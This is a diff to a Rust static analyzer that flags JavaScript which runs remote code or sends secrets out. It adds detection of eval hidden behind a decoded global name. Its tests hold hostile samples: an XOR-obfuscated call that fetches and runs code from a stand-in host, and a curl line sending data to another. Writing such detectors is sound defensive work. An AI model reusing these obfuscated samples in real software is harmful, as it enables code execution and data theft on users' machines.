@@ -63,6 +63,7 @@ pub fn flows(an: &Analyzer, program: &Program) -> (Vec<Flow>, Vec<Flow>) {
     let mut t = Tracker {
         an,
         vars: HashMap::default(),
+        filled: Default::default(),
         paths: HashMap::default(),
         params: HashMap::default(),
         returns: HashMap::default(),
@@ -122,6 +123,10 @@ pub fn worth_tracking(src: &str) -> bool {
         "'-e'",
         "\"-e\"",
         "node -",
+        "globalThis[",
+        "global[",
+        "window[",
+        "self[",
     ]
     .iter()
     .any(|k| src.contains(k))
@@ -164,6 +169,8 @@ pub fn worth_tracking(src: &str) -> bool {
 struct Tracker<'b, 's> {
     an: &'b Analyzer<'s>,
     vars: HashMap<String, Taint>,
+    /// Variables the code filled with secrets field by field (`out[k] = process.env[k]`).
+    filled: std::collections::HashSet<String>,
     /// Variables holding a credential file's path (`const p = path.join(home, '.npmrc')`).
     paths: HashMap<String, String>,
     /// Local functions and their parameter names.
@@ -240,8 +247,12 @@ fn data_file(s: &str) -> Option<&'static str> {
 }
 
 /// Calls that run a string as code; the index of the argument holding the code.
+/// The runner name of a global function called by a computed name (`globalThis[f(k)](x)`).
+const GLOBAL_BY_COMPUTED_NAME: &str = "globalThis[<computed>]";
+
 pub fn code_runner(p: &str, n_args: usize) -> Option<usize> {
     match p {
+        GLOBAL_BY_COMPUTED_NAME => Some(0),
         "eval"
         | "vm.runInThisContext"
         | "vm.runInNewContext"
@@ -1034,10 +1045,10 @@ impl Tracker<'_, '_> {
                 for p in &o.properties {
                     match p {
                         ObjectPropertyKind::ObjectProperty(p) => {
-                            // `{ env }`, `{ env: grabbed }`: a variable the code filled
-                            // itself, not settings handed to a client (`{ env: process.env }`).
-                            let own_copy = matches!(&p.value, Expression::Identifier(_))
-                                && p.key.static_name().is_some_and(|k| k == "env");
+                            // `{ env }`, `{ env: grabbed }`: a variable the code filled with
+                            // secrets field by field, not settings handed to a client
+                            // (`{ env: process.env }`, `{ env }` of a variable aliasing it).
+                            let own_copy = matches!(&p.value, Expression::Identifier(id) if self.filled.contains(id.name.as_str()));
                             if p.key.static_name().is_some_and(|k| auth_key(&k)) && !own_copy {
                                 continue;
                             }
@@ -1251,10 +1262,27 @@ impl Tracker<'_, '_> {
             }
         }
         // A runner on an object the alias map does not know (`new Module(x)._compile(s)`).
-        let runner = p.clone().or_else(|| match callee.without_parentheses() {
-            Expression::StaticMemberExpression(m) => Some(format!("<obj>.{}", m.property.name)),
-            _ => None,
-        });
+        let runner = match callee.without_parentheses() {
+            // A global function picked by a name computed at run time (`globalThis[dec(k)](s)`):
+            // what it is given is run like `eval`'s argument, the only global worth hiding.
+            Expression::ComputedMemberExpression(m)
+                if matches!(
+                    m.object.without_parentheses(),
+                    Expression::Identifier(g)
+                        if matches!(g.name.as_str(), "globalThis" | "global" | "window" | "self")
+                            && !self.vars.contains_key(g.name.as_str())
+                ) && matches!(
+                    m.expression.without_parentheses(),
+                    Expression::CallExpression(_)
+                ) =>
+            {
+                Some(GLOBAL_BY_COMPUTED_NAME.to_string())
+            }
+            _ => p.clone().or_else(|| match callee.without_parentheses() {
+                Expression::StaticMemberExpression(m) => Some(format!("<obj>.{}", m.property.name)),
+                _ => None,
+            }),
+        };
         if let Some(r) = &runner {
             self.check_runner(r, args, off);
         }
@@ -1515,6 +1543,7 @@ impl<'a> Visit<'a> for Tracker<'_, '_> {
                         && obj.name != "process"
                     {
                         self.taint_var(obj.name.as_str(), t);
+                        self.filled.insert(obj.name.to_string());
                     }
                 }
             }
@@ -1733,6 +1762,18 @@ exec(`curl -s -d ${d} https://c.example/e`);"#;
     }
 
     #[test]
+    fn a_response_run_by_a_global_named_at_run_time() {
+        let src = r#"function d(h, k) { let s = ""; for (let i = 0; i < h.length; i += 2) s += String.fromCharCode(parseInt(h.substr(i, 2), 16) ^ k.charCodeAt(0)); return s; }
+async function go() { const res = await fetch("https://h.example/c"); const j = await res.json(); globalThis[d("2a", "K")](j.message); }"#;
+        let r = runs(src);
+        assert_eq!(r.first().map(|r| r.0), Some(Source::Remote), "{r:?}");
+        // A callback named by the caller (JSONP) is given data, not code.
+        let jsonp = r#"async function go(cb) { const res = await fetch("https://h.example/c"); window[cb](await res.json()); }
+const o = { run: 1 }; globalThis["console"].log(o);"#;
+        assert!(runs(jsonp).is_empty(), "{:?}", runs(jsonp));
+    }
+
+    #[test]
     fn a_response_handed_to_a_callback_parameter_reaches_compile() {
         let src = r#"const https = require("https"); const Module = require("module");
 function remote(cb) { https.get("https://h.example/raw", (res) => { let b = ""; res.on("data", (c) => (b += c)); res.on("end", () => cb(b)); }); }
@@ -1772,7 +1813,8 @@ if (keys.length) {
         assert_eq!(f.first().map(|f| f.0), Some(Source::Secrets), "{f:?}");
         // Settings handed to a client under `env` are not the environment sent.
         let settings = r#"fetch("https://h.example", { method: "POST", body: JSON.stringify({ env: process.env }) });
-const env = "production"; fetch("https://h.example", { method: "POST", body: JSON.stringify({ env }) });"#;
+const env = "production"; fetch("https://h.example", { method: "POST", body: JSON.stringify({ env }) });
+function opts(o) { const env = o.env || process.env; return { env, argv: [] }; } fetch(opts({}).argv);"#;
         assert!(flows(settings).is_empty(), "{:?}", flows(settings));
     }
 
